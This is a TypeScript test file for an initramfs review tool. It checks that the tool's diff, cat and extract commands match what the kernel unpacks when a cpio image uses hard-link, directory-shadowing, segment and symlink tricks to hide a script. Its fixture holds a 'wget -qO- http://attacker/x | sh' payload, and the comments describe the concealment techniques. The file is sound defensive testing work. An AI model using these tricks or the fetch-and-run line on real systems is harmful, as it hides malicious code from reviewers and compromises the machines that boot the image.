// Attack (issue 10 item 7): hide from review what the kernel will run. An
// image is reviewed with `remaster diff` and `remaster cat`; if they tell a
// different story from init/initramfs.c, an attacker ships an image whose
// listing shows a harmless file where the kernel unpacks a script, or whose
// `cat` of a hard-link member shows nothing where the kernel leaves the
// group's data. The orders used here are each checked against the real
// kernel under QEMU (test/integration/kernel-unpack-order.test.ts:
// dir-then-file, hardlink-data-first/-last, hardlink-no-trailer,
// hardlink-plain-file-over-member, usrmerge); this test pins that diff, cat
// and extract report the kernel's result for each trick.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, readFile, lstat } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { diffTrees, extractEntries, readInitrd, readInitrdFile, readInitrdTree } from '../../src/index.ts';
import { makeCpio, type MakeEntry } from '../helpers/make-cpio.ts';
import { tmpDir } from '../helpers/tmp-dir.ts';

const EVIL = '#!/bin/sh\nwget -qO- http://attacker/x | sh\n';
const dir = (name: string): MakeEntry => ({ name, mode: 0o40755 });
const file = (name: string, data: string, extra: Partial<MakeEntry> = {}): MakeEntry => ({ name, mode: 0o100755, data, ...extra });
const member = (name: string, data: string, ino: number): MakeEntry => file(name, data, { ino, nlink: 2 });
const text = (b: Uint8Array): string => new TextDecoder().decode(b);
const cat = async (image: Uint8Array, path: string): Promise<string> => text(await readInitrdFile({ open: () => [image] }, path));

/** The image a reviewer compares against: a plain hook file. */
const base = makeCpio([dir('etc'), file('etc/hook', 'true\n'), dir('bin'), file('bin/shown', 'true\n')]);

test('a harmless file listed after a non-empty directory does not hide the script inside it', async (t) => {
  // Segment 1 makes etc/hook a directory holding the script; segment 2 lists etc/hook as the harmless
  // file again. The kernel's clean_path() cannot rmdir a non-empty directory: the script stays.
  const image = Buffer.concat([makeCpio([dir('etc'), dir('etc/hook'), file('etc/hook/run', EVIL), dir('bin'), file('bin/shown', 'true\n')]), gzipSync(makeCpio([file('etc/hook', 'true\n')]))]);
  const tree = await readInitrdTree([image], { onWarning: () => {} });
  assert.equal(tree.get('etc/hook')?.type, 'dir');
  const changes = diffTrees(await readInitrdTree([base]), tree).map((c) => `${c.path} ${c.kind}`);
  assert.ok(changes.includes('etc/hook/run added'), changes.join('; '));
  await assert.rejects(cat(image, 'etc/hook'), { code: 'ENTRY_NOT_FOUND' });
  assert.equal(await cat(image, 'etc/hook/run'), EVIL);
  const out = await tmpDir(t);
  await extractEntries(readInitrd([image]), out, { onWarning: () => {} });
  assert.ok((await lstat(join(out, 'etc/hook'))).isDirectory());
  assert.equal(await readFile(join(out, 'etc/hook/run'), 'utf8'), EVIL);
});

const linkTricks: [string, Uint8Array][] = [
  // The data sits on another member; the reviewed name's own entry carries none.
  ['data on the first member', makeCpio([dir('bin'), member('bin/helper', EVIL, 9), member('bin/shown', '', 9)])],
  // GNU cpio's order: the data on the last member, so an entry-by-entry reader sees an empty first name.
  ['data on the last member', makeCpio([dir('bin'), member('bin/shown', '', 9), member('bin/helper', EVIL, 9)])],
  // A later member's data rewrites the shared inode: the reviewed name's own entry had harmless data.
  ['harmless data first, rewritten by a later member', makeCpio([dir('bin'), member('bin/shown', 'true\n', 9), member('bin/helper', EVIL, 9)])],
  // No TRAILER!!! between the segments: the kernel's link table survives into the gzip segment.
  ['a later segment rewrites the group (no trailer in between)', Buffer.concat([makeCpio([dir('bin'), member('bin/shown', 'true\n', 9)], { trailer: false }), gzipSync(makeCpio([member('bin/helper', EVIL, 9)]))])],
  // A plain file over one name of a group opens it with O_TRUNC: the other name shows the new data too.
  ['a plain file written over the other name of the group', Buffer.concat([makeCpio([dir('bin'), member('bin/shown', 'true\n', 9), member('bin/helper', '', 9)]), makeCpio([file('bin/helper', EVIL)])])],
];

for (const [name, image] of linkTricks) {
  test(`a hard-link member shows the data the kernel leaves: ${name}`, async (t) => {
    assert.equal(await cat(image, 'bin/shown'), EVIL, 'cat');
    const tree = await readInitrdTree([image]);
    assert.ok(diffTrees(await readInitrdTree([base]), tree).some((c) => c.path === 'bin/shown' && c.kind === 'changed'), 'diff reports the change');
    assert.equal(tree.get('bin/shown')?.sha256, tree.get('bin/helper')?.sha256);
    const out = await tmpDir(t);
    await extractEntries(readInitrd([image]), out, { onWarning: () => {} });
    assert.equal(await readFile(join(out, 'bin/shown'), 'utf8'), EVIL, 'extract');
  });
}

test('a file written under a symlinked directory is reviewed where the kernel puts it', async (t) => {
  const image = Buffer.concat([makeCpio([dir('usr'), dir('usr/lib'), { name: 'lib', mode: 0o120777, data: 'usr/lib' }]), makeCpio([file('lib/hook', EVIL)])]);
  const tree = await readInitrdTree([image]);
  assert.equal(tree.get('usr/lib/hook')?.type, 'file');
  assert.equal(tree.has('lib/hook'), false, 'not listed under the link');
  assert.equal(await cat(image, 'usr/lib/hook'), EVIL);
  assert.equal(await cat(image, 'lib/hook'), EVIL);
  // Extraction refuses to write through the link (it could point anywhere on a host).
  const out = join(await tmpDir(t), 'x');
  await mkdir(out);
  await assert.rejects(extractEntries(readInitrd([image]), out), { code: 'PATH_THROUGH_SYMLINK' });
});
